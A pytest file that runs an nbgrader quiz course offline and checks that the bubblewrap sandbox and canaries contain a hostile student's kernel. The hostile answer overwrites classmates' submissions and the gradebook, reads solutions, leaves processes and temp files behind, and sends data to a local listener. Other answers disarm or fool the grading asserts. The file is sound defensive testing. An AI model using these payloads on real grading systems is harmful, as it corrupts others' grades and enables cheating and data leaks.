"""The quiz notebooks (quizzes 1, 2, 7) through real nbgrader commands, offline with the `mini` model.

In a copy of the course in a temporary folder (so no gradebook.db or autograded/ ever lands in the repo):
`nbgrader generate_assignment` (the committed release must equal the fresh one), `nbgrader validate --invert`
on the release, then the class autograded two students at a time (`python -m autograder.nbgrader_parallel`, one
`nbgrader autograde --student` each, one gradebook), and the scores read back from the gradebook and from
`nbgrader export`. The source notebooks' answers are the "solution" student's, who must get full marks (what
`nbgrader validate` on the source would say, without three more kernel runs).

Each kernel runs in the bubblewrap sandbox (autograder/nbsandbox.py). A hostile student, graded with the
others, tries from its kernel what a class could: rewriting the other students' submissions and the
gradebook, reading the source notebooks, the network, files and processes left behind. The tests check the
machine afterwards, and that the other students score what they score when graded alone.
"""

import copy
import csv
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest

from autograder import recheck
from autograder.canary import PROBE_MARK
from autograder.sandbox import bubblewrap
from tests.helpers import REPO_ROOT, UNREACHABLE_HUB, Listener

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not bubblewrap.status().available, reason=f"no sandbox here: {bubblewrap.status().reason}"),
]
MARKER = f"nbgrader-escape-{os.getpid()}"  # in every file and process the hostile student leaves behind

ASSIGNMENT = "quiz_notebooks"
SOURCE = REPO_ROOT / "solutions" / ASSIGNMENT
RELEASE = REPO_ROOT / "quizzes" / ASSIGNMENT
CONFIG = REPO_ROOT / "autograder" / "nbgrader_config.py"
NOTEBOOKS = ["quiz1_cosine_similarity", "quiz2_topk_text", "quiz7_find_pictures"]
QUIZ7_TARGETS = recheck.QUIZ7_TARGETS  # the five pictures of quiz 7 (test_rechecked_targets_are_the_notebooks)
# grade_id -> points, as the source notebooks set them
POINTS = {
    "quiz1_rowwise_test": 2,
    "quiz1_pairwise_test": 2,
    "quiz1_relation_test": 1,
    "quiz2_top3_test": 4,
    **{f"quiz7_{name.split('.')[0]}_test": 1 for name in QUIZ7_TARGETS},
}
MAX_SCORE = sum(POINTS.values())  # 14
# Volatile cell metadata that Jupyter adds when a notebook is opened or run; never part of the release.
VOLATILE_CELL_METADATA = {"execution", "ExecuteTime", "collapsed", "scrolled", "trusted"}


def course_env(root: Path) -> dict:
    """Offline, with the course's model, the way an instructor runs nbgrader on a machine without the hub."""
    env = {key: value for key, value in os.environ.items() if not key.startswith(("HF_", "MMEMBED_"))}
    env.update(
        MMEMBED_MODEL="mini",
        HF_HUB_OFFLINE="1",
        HF_ENDPOINT=UNREACHABLE_HUB,
        HF_HOME=str(root / ".hf-home"),
        PATH=os.pathsep.join([str(Path(sys.executable).parent), env.get("PATH", "")]),  # nbgrader calls `alembic`
        PYTHONWARNINGS="ignore::DeprecationWarning",
    )
    return env


def nbgrader(root: Path, *args: str, timeout: int = 600, module: str = "nbgrader") -> subprocess.CompletedProcess:
    """Run `nbgrader ARGS` (or another module) in `root` with the course's config."""
    config = root / "autograder" / "nbgrader_config.py"
    config_arg = f"--config={config}" if module != "nbgrader" else f"--NbGrader.config_file={config}"
    command = [sys.executable, "-m", module, *args, config_arg]
    started = time.monotonic()
    result = subprocess.run(command, cwd=root, env=course_env(root), capture_output=True, text=True, timeout=timeout)
    print(f"$ {module} {' '.join(args)} -> exit {result.returncode} in {time.monotonic() - started:.0f} s")
    return result


def cells_by_grade_id(nb) -> dict:
    return {cell.metadata["nbgrader"]["grade_id"]: cell for cell in nb.cells if "nbgrader" in cell.metadata}


def normalised(path: Path) -> dict:
    nb = json.loads(path.read_text(encoding="utf-8"))
    for cell in nb["cells"]:
        for key in VOLATILE_CELL_METADATA:
            cell["metadata"].pop(key, None)
    return nb


# ------------------------------------------------------------------------------------------ submissions
def solved(release_nb, source_nb):
    """The release with every answer cell filled in with the solution (what a perfect student submits)."""
    nb = copy.deepcopy(release_nb)
    solutions = cells_by_grade_id(source_nb)
    for grade_id, cell in cells_by_grade_id(nb).items():
        if cell.metadata["nbgrader"].get("solution"):
            lines = solutions[grade_id].source.splitlines()
            cell.source = "\n".join(
                line for line in lines if line.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION")
            )
    return nb


def answer(nb, grade_id: str, source: str):
    nb = copy.deepcopy(nb)
    cells_by_grade_id(nb)[grade_id].source = source
    return nb


NOISY_QUIZ2_ANSWER = """answer_text = "a dog's head"

# Library noise on stderr *inside the graded cell* (as torch/transformers print it): must not cost points.
import sys
import warnings

_get_text_features = model.get_text_features


def _noisy_get_text_features(*args, **kwargs):
    warnings.warn("`resume_download` is deprecated and will be removed in version 6.", FutureWarning)
    print("Loading weights: 100%|##########| 110/110 [00:00<00:00, 19175.95it/s]", file=sys.stderr)
    return _get_text_features(*args, **kwargs)


model.get_text_features = _noisy_get_text_features
"""

# Answers that disarm the tests in the kernel, each a different way; the canaries must catch every one.
DISARM_QUIZ1 = """rowwise = F.cosine_similarity(vec1, vec2, dim=1)
pairwise = F.cosine_similarity(vec1, vec2, dim=1)  # wrong shape...
np.allclose = lambda *args, **kwargs: True  # ...and the value checks disarmed
"""
DISARM_QUIZ2 = """answer_text = "a running dog"  # a wrong answer: its top-3 are dog_3, dog_8, dog_1
# Drop every line that starts with assert, in every cell from now on (the canary's too).
get_ipython().input_transformers_post.append(
    lambda lines: [line for line in lines if not line.lstrip().startswith("assert")])
"""
DISARM_QUIZ7 = """answer_texts = {name: "a cat" for name in TARGET_NAMES}
# Cleverer: disarm only the test cells ("채점" in their first line) and leave the last cell alone.
def _pass_tests(lines):
    return ["pass\\n"] if lines and "채점" in lines[0] else lines
get_ipython().input_transformers_post.append(_pass_tests)
"""
# Answers that fool the tests without touching anything the canaries watch: the notebook's own list of
# picture names answers every lookup with the name the running test expects. Only the grader's own search
# (autograder/recheck.py) sees through it.
PLANTED_QUIZ7 = """answer_texts = {name: "a cat" for name in TARGET_NAMES}


class _AlwaysTheExpectedName(list):
    def __getitem__(self, index):
        return get_ipython().user_ns.get("name", "")


quiz_names = _AlwaysTheExpectedName(quiz_names)
"""


def hostile_quiz1(root: Path, port: int) -> str:
    """Right answers, and from the kernel every attack on the course a class could try (each would work
    without the sandbox: the kernel ran with the instructor's rights)."""
    victims = [
        root / "submitted" / "solution" / ASSIGNMENT / "quiz1_cosine_similarity.ipynb",
        root / "gradebook.db",
        root / "autograder" / "canary.py",
    ]
    return f"""rowwise = F.cosine_similarity(vec1, vec2, dim=1)
pairwise = F.cosine_similarity(vec1.unsqueeze(1), vec2.unsqueeze(0), dim=-1)

import os as _os, socket as _socket, subprocess as _subprocess, sys as _sys
for _path in {[str(v) for v in victims]!r}:
    try:
        with open(_path, "w") as _file:
            _file.write("{{}}")
    except OSError:
        print("could not write", _path)
for _path in [{str(root / "solutions" / ASSIGNMENT / "quiz2_topk_text.ipynb")!r}, {str(root / "gradebook.db")!r}]:
    try:
        open(_path, "rb").read()
        print("READ", _path)
    except OSError:
        print("could not read", _path)
_subprocess.Popen([_sys.executable, "-c", "import time; time.sleep(600)  # {MARKER}"], start_new_session=True,
                  stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
for _folder in ["/tmp", "/var/tmp", "/dev/shm"]:
    try:
        open(_os.path.join(_folder, "{MARKER}.txt"), "w").write("left behind")
    except OSError:
        pass
try:
    _socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(b"leaked")
except OSError:
    print("no network")
"""


def make_submissions(release: dict, source: dict, root: Path, port: int) -> dict[str, dict]:
    """{student: {notebook: nb}} and the expected scores are in EXPECTED below."""
    # Each student hands in only the notebooks its test needs (a missing notebook scores 0, as "planted"
    # shows): every notebook is a kernel run, and the untouched release is already `validate --invert`'s.
    full = {name: solved(release[name], source[name]) for name in NOTEBOOKS}
    quiz7_partial = "answer_texts = {}\n" + "\n".join(
        [
            'answer_texts["val_134.JPEG"] = "the Eiffel Tower"',
            'answer_texts["val_169.JPEG"] = "a rooster"',
            'answer_texts["val_194.JPEG"] = "a basketball"',
            'answer_texts["val_167.JPEG"] = "val_167.JPEG"',  # a file name, not a description: no point
        ]
    )  # val_175 left out
    return {
        "a_hostile": {
            "quiz1_cosine_similarity": answer(
                release["quiz1_cosine_similarity"], "quiz1_rowwise_answer", hostile_quiz1(root, port)
            ),
        },
        "solution": full,
        "partial": {
            "quiz1_cosine_similarity": answer(
                answer(
                    release["quiz1_cosine_similarity"],
                    "quiz1_rowwise_answer",
                    "rowwise = F.cosine_similarity(vec1, vec2, dim=1)",
                ),
                "quiz1_pairwise_answer",
                "pairwise = F.cosine_similarity(vec1, vec2, dim=1)  # no unsqueeze: (2,)",
            ),
            "quiz2_topk_text": answer(release["quiz2_topk_text"], "quiz2_answer", NOISY_QUIZ2_ANSWER),
            "quiz7_find_pictures": answer(release["quiz7_find_pictures"], "quiz7_answer", quiz7_partial),
        },
        # Wrong answer, and the locked test cell replaced by `pass`: nbgrader restores the cell from the gradebook.
        "locked_edit": {
            "quiz2_topk_text": answer(
                answer(release["quiz2_topk_text"], "quiz2_answer", 'answer_text = "a running dog"'),
                "quiz2_top3_test",
                "pass",
            ),
        },
        "planted": {"quiz7_find_pictures": answer(release["quiz7_find_pictures"], "quiz7_answer", PLANTED_QUIZ7)},
        "disarmed": {
            "quiz1_cosine_similarity": answer(release["quiz1_cosine_similarity"], "quiz1_rowwise_answer", DISARM_QUIZ1),
            "quiz2_topk_text": answer(release["quiz2_topk_text"], "quiz2_answer", DISARM_QUIZ2),
            "quiz7_find_pictures": answer(release["quiz7_find_pictures"], "quiz7_answer", DISARM_QUIZ7),
        },
    }


EXPECTED = {
    "a_hostile": {
        **dict.fromkeys(POINTS, 0),
        "quiz1_rowwise_test": 2,
        "quiz1_pairwise_test": 2,
        "quiz1_relation_test": 1,
    },
    "solution": POINTS,
    "partial": {
        **dict.fromkeys(POINTS, 0),
        "quiz1_rowwise_test": 2,
        "quiz2_top3_test": 4,
        "quiz7_val_134_test": 1,
        "quiz7_val_169_test": 1,
        "quiz7_val_194_test": 1,
    },
    "locked_edit": dict.fromkeys(POINTS, 0),
    "disarmed": dict.fromkeys(POINTS, 0),
    "planted": dict.fromkeys(POINTS, 0),
}
# What the canaries report for each notebook of "disarmed" (autograder/canary.py).
DISARM_REASONS = {
    "quiz1_cosine_similarity": "allclose",
    "quiz2_topk_text": "did not fail",
    "quiz7_find_pictures": "input_transformers_post",
}


# ------------------------------------------------------------------------------------------ the run
@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """Run the whole nbgrader cycle once in a copy of the course; the tests below check its results."""
    root = tmp_path_factory.mktemp("course")
    shutil.copytree(SOURCE, root / "solutions" / ASSIGNMENT, ignore=shutil.ignore_patterns(".ipynb_checkpoints"))
    # The whole package, as in the repository: the config imports autograder.canary from it.
    shutil.copytree(CONFIG.parent, root / "autograder", ignore=shutil.ignore_patterns("__pycache__"))
    started = time.monotonic()
    runs = {}

    runs["generate"] = nbgrader(root, "generate_assignment", ASSIGNMENT, "--force")
    runs["invert"] = nbgrader(root, "validate", "--invert", *[f"quizzes/{ASSIGNMENT}/{n}.ipynb" for n in NOTEBOOKS])

    release = {n: nbformat.read(root / "quizzes" / ASSIGNMENT / f"{n}.ipynb", as_version=4) for n in NOTEBOOKS}
    source = {n: nbformat.read(SOURCE / f"{n}.ipynb", as_version=4) for n in NOTEBOOKS}
    listener = Listener()
    listener.start()
    for student, notebooks in make_submissions(release, source, root, listener.port).items():
        folder = root / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        for name, nb in notebooks.items():
            nbformat.write(nb, folder / f"{name}.ipynb")
    submitted = {path: path.read_bytes() for path in (root / "submitted").rglob("*.ipynb")}
    grader = {path: path.read_bytes() for path in (root / "autograder").rglob("*.py")}
    runs["autograde"] = nbgrader(
        root, ASSIGNMENT, "--jobs", "2", "--root", str(root), module="autograder.nbgrader_parallel", timeout=1200
    )
    runs["export"] = nbgrader(root, "export", "--to", str(root / "grades.csv"))
    seconds = time.monotonic() - started
    print(f"nbgrader cycle: {seconds:.0f} s")
    listener.server.close()
    in_class = grades(root)
    # The notebook the hostile classmate attacked, graded again alone: the score it must not have changed.
    runs["alone"] = nbgrader(
        root, "autograde", ASSIGNMENT, "--student", "solution", "--notebook", "quiz1_cosine_similarity", "--force"
    )
    return {
        "root": root,
        "runs": runs,
        "seconds": seconds,
        "listener": listener,
        "submitted": submitted,
        "grader": grader,
        "in_class": in_class,
    }


def check_ran(run: subprocess.CompletedProcess):
    assert run.returncode == 0, f"exit {run.returncode}\n{run.stdout[-3000:]}\n{run.stderr[-5000:]}"


def test_committed_release_is_the_generated_one(course):
    check_ran(course["runs"]["generate"])
    fresh = course["root"] / "quizzes" / ASSIGNMENT
    assert sorted(p.name for p in RELEASE.iterdir()) == sorted(p.name for p in fresh.iterdir()), (
        "quizzes/quiz_notebooks/ holds other files than nbgrader generates"
    )
    for name in NOTEBOOKS:
        assert normalised(RELEASE / f"{name}.ipynb") == normalised(fresh / f"{name}.ipynb"), (
            f"quizzes/{ASSIGNMENT}/{name}.ipynb is stale: regenerate it (README: nbgrader generate_assignment)"
        )


def test_release_hides_solutions_and_hidden_tests():
    for name in NOTEBOOKS:
        text = (RELEASE / f"{name}.ipynb").read_text(encoding="utf-8")
        for marker in ("BEGIN SOLUTION", "HIDDEN TESTS", "a dog's head", "the Eiffel Tower", "unsqueeze(1)"):
            assert marker not in text, f"{name}: the release shows {marker!r}"


def test_every_test_fails_on_the_untouched_release(course):
    run = course["runs"]["invert"]
    check_ran(run)
    assert run.stdout.count("Success! The notebook does not pass any tests.") == len(NOTEBOOKS), run.stdout


def grades(root: Path) -> dict[str, dict[str, float]]:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gradebook:
        return {
            student: {
                grade.name: grade.score
                for nb in gradebook.find_submission(ASSIGNMENT, student).notebooks
                for grade in nb.grades
            }
            for student in EXPECTED
        }


def test_autograde_scores(course):
    check_ran(course["runs"]["autograde"])
    scores = grades(course["root"])
    assert scores == EXPECTED
    totals = {student: sum(points.values()) for student, points in scores.items()}
    assert totals["solution"] == MAX_SCORE
    assert 0 < totals["partial"] < MAX_SCORE
    assert totals["locked_edit"] == totals["disarmed"] == totals["planted"] == 0


def test_disarmed_tests_are_caught_and_the_student_is_told_why(course):
    for name, reason in DISARM_REASONS.items():
        autograded = nbformat.read(
            course["root"] / "autograded" / "disarmed" / ASSIGNMENT / f"{name}.ipynb", as_version=4
        )
        tests = [cell for grade_id, cell in cells_by_grade_id(autograded).items() if grade_id in POINTS]
        for cell in tests:
            first = cell.outputs[0]
            assert first.output_type == "error" and first.ename == "IntegrityCheckFailed", (name, cell.outputs)
            assert "채점 무결성 확인 실패" in first.evalue and reason in first.evalue, (name, first.evalue)
        assert not any(PROBE_MARK in cell.metadata for cell in autograded.cells), "the probes must be taken out"
    log = course["runs"]["autograde"].stdout + course["runs"]["autograde"].stderr
    assert "Integrity check failed" in log  # the instructor sees it in the log


def test_planted_answers_are_caught_by_the_graders_own_search(course):
    autograded = nbformat.read(
        course["root"] / "autograded" / "planted" / ASSIGNMENT / "quiz7_find_pictures.ipynb", as_version=4
    )
    for name in QUIZ7_TARGETS:
        cell = cells_by_grade_id(autograded)[f"quiz7_{name.split('.')[0]}_test"]
        assert not [o for o in cell.outputs if o.output_type == "error" and o.ename != "RecheckFailed"], (
            "the kernel's own test passed: the planted list fooled it, as intended"
        )
        assert cell.outputs[0].ename == "RecheckFailed" and "채점기 재확인 실패" in cell.outputs[0].evalue
        assert name not in cell.outputs[0].evalue


def test_rechecked_targets_are_the_notebooks():
    notebook = (SOURCE / "quiz7_find_pictures.ipynb").read_text(encoding="utf-8")
    assert f"TARGET_NAMES = {recheck.QUIZ7_TARGETS!r}" in notebook
    assert set(recheck.RECHECKS) == {grade_id for grade_id in POINTS if not grade_id.startswith("quiz1")}


def test_the_notebook_a_student_runs_ends_cleanly(course):
    """No cell fails on purpose: the solved notebooks, executed by nbgrader, show no error at all."""
    for name in NOTEBOOKS:
        autograded = nbformat.read(course["root"] / "autograded" / "solution" / ASSIGNMENT / f"{name}.ipynb", 4)
        errors = [o for cell in autograded.cells for o in cell.get("outputs", []) if o.output_type == "error"]
        assert errors == [], (name, errors)
        assert not any(PROBE_MARK in cell.metadata for cell in autograded.cells)
    for folder in (SOURCE, RELEASE):
        for name in NOTEBOOKS:
            assert "CANARY" not in (folder / f"{name}.ipynb").read_text(encoding="utf-8")


# ------------------------------------------------------------------------------------------ the sandbox
def test_kernels_run_in_the_sandbox(course):
    assert "NO SANDBOX" not in course["runs"]["autograde"].stdout + course["runs"]["autograde"].stderr
    hostile = nbformat.read(
        course["root"] / "autograded" / "a_hostile" / ASSIGNMENT / "quiz1_cosine_similarity.ipynb", 4
    )
    printed = "".join(o.get("text", "") for cell in hostile.cells for o in cell.get("outputs", []))
    assert "could not read" in printed and "READ " not in printed, printed
    assert "no network" in printed


def test_a_kernel_cannot_rewrite_other_submissions_the_gradebook_or_the_grader(course):
    for path, content in course["submitted"].items():
        assert path.read_bytes() == content, f"{path} was changed while grading"
    for path, content in course["grader"].items():
        assert path.read_bytes() == content, f"{path} was changed while grading"
    assert course["in_class"] == EXPECTED  # the gradebook holds every student's true score


def test_the_other_students_score_as_when_graded_alone(course):
    check_ran(course["runs"]["alone"])
    assert grades(course["root"])["solution"] == course["in_class"]["solution"] == POINTS


def test_a_kernel_has_no_network_and_leaves_nothing_behind(course):
    assert course["listener"].connections == 0
    leftovers = [path for folder in ("/tmp", "/var/tmp", "/dev/shm") for path in Path(folder).glob(f"{MARKER}*")]
    assert leftovers == []
    survivors = []
    for proc in Path("/proc").iterdir():
        try:
            if proc.name.isdigit() and MARKER in (proc / "cmdline").read_bytes().decode(errors="replace"):
                survivors.append(proc.name)
        except OSError:
            pass
    assert survivors == [], "a process the kernel started outlived it"


def test_export_has_one_row_per_student(course):
    check_ran(course["runs"]["export"])
    with open(course["root"] / "grades.csv", newline="", encoding="utf-8") as f:
        rows = {row["student_id"]: row for row in csv.DictReader(f)}
    assert {s: float(rows[s]["score"]) for s in EXPECTED} == {s: float(sum(p.values())) for s, p in EXPECTED.items()}
    assert {float(row["max_score"]) for row in rows.values()} == {MAX_SCORE}


def test_locked_test_cell_was_restored(course):
    autograded = course["root"] / "autograded" / "locked_edit" / ASSIGNMENT / "quiz2_topk_text.ipynb"
    cell = cells_by_grade_id(nbformat.read(autograded, as_version=4))["quiz2_top3_test"]
    assert cell.source.strip() != "pass" and "assert retrieved ==" in cell.source
    assert any(output.output_type == "error" for output in cell.outputs)
